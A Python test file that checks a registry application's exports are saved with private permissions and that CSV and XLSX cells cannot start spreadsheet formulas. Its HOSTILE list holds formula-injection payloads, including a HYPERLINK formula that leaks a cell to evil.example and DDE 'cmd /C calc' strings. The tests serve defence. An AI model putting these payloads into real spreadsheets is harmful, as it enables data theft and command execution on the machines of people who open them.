"""Exports are data, not formulas, and private (docs/security.md §2.12).

Every file Station writes for a person to open — the e-KTP list, the statistics report in
CSV/XLSX/JSON, the import's rejection report, the day summary, print previews and a file
printer's output — is created 0600 even under a permissive umask, and no cell of a CSV or
XLSX can start a formula in a spreadsheet.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import stat
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from station.cli import cli
from station.home.config import PrinterConfig
from station.home.context import Station, open_station
from station.printing import print_ticket
from station.queue.facade import Queue
from station.register.importing.bulk import import_file
from station.reports.statistics import Period, build_report, write_xlsx
from station.store.files import (
    FORMULA_START,
    SafeCsvWriter,
    open_private_append,
    private_file,
    safe_cell,
)
from station.store.models import Resident

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Klik")',
    "+CMD|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # a full-width '=' that a spreadsheet may fold to '='
]


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def open_umask() -> Iterator[None]:
    """The umask many desktops have (others may read new files)."""
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


def _cells(path: Path, encoding: str = "utf-8") -> list[list[str]]:
    with path.open(encoding=encoding, newline="") as handle:
        return list(csv.reader(handle))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), row


# --- the helpers -------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_cell_disarms_every_formula_start(text: str) -> None:
    assert safe_cell(text) == "'" + text
    out = io.StringIO()
    SafeCsvWriter(out).writerow([text, "Jl. Timor Raya", 5, -5, None])
    (row,) = csv.reader(io.StringIO(out.getvalue()))
    assert row == ["'" + text, "Jl. Timor Raya", "5", "-5", ""]  # numbers are Station's own


def test_private_file_replaces_whole_or_not_at_all(tmp_path: Path, open_umask: None) -> None:
    target = tmp_path / "daftar.csv"
    target.write_text("lama\n")
    target.chmod(0o644)
    with pytest.raises(RuntimeError), private_file(target, "w") as handle:
        handle.write("setengah")
        raise RuntimeError("disk penuh")
    assert target.read_text() == "lama\n"  # the earlier file is untouched
    assert [p.name for p in tmp_path.iterdir()] == ["daftar.csv"]  # no partial file left
    with private_file(target, "w") as handle:
        # while written, the new content is in a 0600 file, the target still the old one
        (partial,) = [p for p in tmp_path.iterdir() if p.name != "daftar.csv"]
        assert _mode(partial) == 0o600 and partial.name.startswith(".daftar.csv.")
        handle.write("baru\n")
    assert target.read_text() == "baru\n" and _mode(target) == 0o600


def test_private_append_makes_a_new_file_0600_and_tightens_an_old_one(
    tmp_path: Path, open_umask: None
) -> None:
    new = tmp_path / "baru.bin"
    with open_private_append(new) as handle:
        handle.write(b"A")
    assert _mode(new) == 0o600
    old = tmp_path / "lama.bin"
    old.write_bytes(b"A")
    old.chmod(0o644)
    with open_private_append(old) as handle:
        handle.write(b"B")
    assert old.read_bytes() == b"AB" and _mode(old) == 0o600


# --- the e-KTP list -----------------------------------------------------------------------


def _hostile_residents(station: Station) -> list[tuple[str, str]]:
    """Adults without an e-KTP recording, named and housed by a hostile import file."""
    people = []
    with station.db.write() as session:
        for index, text in enumerate(HOSTILE):
            nik = f"53710301018{index:01d}0001"
            name, address = (text, "Jl. Timor Raya") if index % 2 else ("UJI", text)
            session.add(
                Resident(
                    office_id=station.office_id,
                    nik=nik,
                    kk_number="5371030101150099",
                    name=name,
                    birth_date=dt.date(1980, 1, 1),
                    sex="L",
                    marital_status="KAWIN",
                    address=address,
                    rt="001",
                    rw="002",
                )
            )
            people.append((name, address))
    return people


def test_ektp_list_is_data_and_private(
    station_home: Path, tmp_path: Path, open_umask: None
) -> None:
    station = open_station(station_home)
    try:
        people = _hostile_residents(station)
    finally:
        station.close()
    target = tmp_path / "belum-rekam.csv"
    target.write_text("daftar lama\n")
    target.chmod(0o644)  # an earlier export others could read: replaced, not reused
    result = CliRunner().invoke(cli, ["ektp", "list", "--output", str(target), "--json"])
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["count"] == len(HOSTILE)
    assert _mode(target) == 0o600
    rows = _cells(target)
    _assert_no_formula(rows)
    header, data = rows[0], rows[1:]
    listed = {(row[header.index("name")], row[header.index("address")]) for row in data}
    expected = {(safe_cell(name), safe_cell(address)) for name, address in people}
    assert listed == expected
    assert ("'" + HOSTILE[1], "Jl. Timor Raya") in listed  # the text itself, disarmed


# --- the statistics report ----------------------------------------------------------------


def test_report_files_are_private(station_home: Path, tmp_path: Path, open_umask: None) -> None:
    runner = CliRunner()
    for fmt in ("csv", "xlsx", "json", "table"):
        target = tmp_path / f"laporan.{fmt}"
        done = runner.invoke(cli, ["report", "--format", fmt, "--output", str(target)])
        assert done.exit_code == 0, done.output
        assert _mode(target) == 0o600, fmt
    _assert_no_formula(_cells(tmp_path / "laporan.csv"))


def test_report_xlsx_stores_formula_looking_names_as_text(
    station_home: Path, tmp_path: Path, open_umask: None
) -> None:
    station = open_station(station_home)
    try:
        queue = Queue.for_station(station)
        for prefix in ("A", "B", "C"):
            queue.take_ticket(prefix)
        today = station.clock.today()
        with station.db.read() as session:
            report = build_report(
                session, station.office_id, station.config.tz, Period(today, today)
            )
    finally:
        station.close()
    services = report["tickets"]["by_service"]
    assert services, "the default services"
    names = dict(zip(services, HOSTILE, strict=False))
    for prefix, name in names.items():
        services[prefix]["name"] = name
    target = tmp_path / "laporan.xlsx"
    write_xlsx(report, target)
    assert _mode(target) == 0o600
    with zipfile.ZipFile(target) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in book.read(n) or b"<f " in book.read(n) for n in sheets)
    from openpyxl import load_workbook

    sheet = load_workbook(target)["Per layanan"]
    stored = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    for prefix, name in names.items():
        cell = stored[prefix]
        assert cell.data_type == "s" and cell.value == name  # text, shown as typed
        assert cell.quotePrefix  # and it stays text when someone edits the cell


# --- the import's rejection report, the day summary --------------------------------------


def test_rejection_report_is_private(station_home: Path, tmp_path: Path, open_umask: None) -> None:
    source = tmp_path / "penduduk.csv"
    from station.home.demo_data import RESIDENT_COLUMNS

    blank = [""] * (len(RESIDENT_COLUMNS) - 1)
    source.write_text(
        ",".join(RESIDENT_COLUMNS) + "\n" + ",".join(["=1+1", *blank]) + "\n", encoding="utf-8"
    )
    station = open_station(station_home)
    try:
        result = import_file(
            station.db, station.office_id, source, operator="uji", today=dt.date(2026, 1, 1)
        )
    finally:
        station.close()
    assert result.report is not None and result.rejected == 1
    assert _mode(result.report) == 0o600
    _assert_no_formula(_cells(result.report, "utf-8-sig"))


def test_day_summary_file_is_private(station_home: Path, tmp_path: Path, open_umask: None) -> None:
    target = tmp_path / "ringkasan.json"
    done = CliRunner().invoke(cli, ["day", "summary", "--output", str(target)])
    assert done.exit_code == 0, done.output
    assert _mode(target) == 0o600 and json.loads(target.read_text())["signature"]


# --- print previews and a file printer ----------------------------------------------------


def test_previews_and_printer_output_are_private(
    station: Station, tmp_path: Path, open_umask: None
) -> None:
    issued = Queue.for_station(station).take_ticket("A")
    out = tmp_path / "printer-output.bin"
    previews = tmp_path / "cetakan"
    printer = PrinterConfig(uri=f"file:{out}", preview_dir=str(previews))
    print_ticket(issued, "Oesapa", printer, tz=dt.timezone(dt.timedelta(hours=8)))
    assert _mode(out) == 0o600
    assert _mode(previews) == 0o700
    files = sorted(previews.iterdir())
    assert [p.suffix for p in files] == [".png", ".txt"]
    assert all(_mode(p) == 0o600 for p in files)
